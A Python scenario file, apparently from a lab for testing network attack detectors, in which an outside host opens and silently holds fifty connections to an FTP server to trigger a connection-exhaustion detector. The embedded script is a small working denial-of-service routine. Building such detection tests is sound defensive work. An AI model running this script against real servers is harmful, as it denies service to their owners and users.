"""Connections to an FTP server that say nothing at all."""

from lab import servers
from lab.range import Range
from lab.scenario import Scenario

# 50 connections of one process, as any leak of sockets or `siege` with a stopped reader makes them.
PROGRAM = """
import socket, sys, time
held = []
for _ in range(50):
    held.append(socket.create_connection((sys.argv[1], 21)))
    time.sleep(0.1)
time.sleep(33)
"""


def run(net: Range) -> None:
    attacker, server = net.outside("attacker"), net.inside("files")
    servers.files(server)
    net.everyday()
    net.loop(net.inside("pc2"), f"curl -s -m 3 -o /dev/null ftp://{server.ip}/report.txt", 1.3)
    with net.attack(
        "connection-exhaustion",
        by=attacker,
        victims=[server],
        frames=f"tcp and dst host {server.ip} and dst port 21",
        responses=f"tcp and src host {server.ip} and dst host {attacker.ip}",
    ):
        net.tool(attacker, "/usr/bin/python3", "-c", PROGRAM, server.ip, seconds=42)
    net.quiet(2)


SCENARIO = Scenario(
    name="connection-exhaustion-held-idle",
    about="A machine outside holds fifty connections to an FTP server on which it never says a word.",
    detectors=("connection-exhaustion",),
    run=run,
)
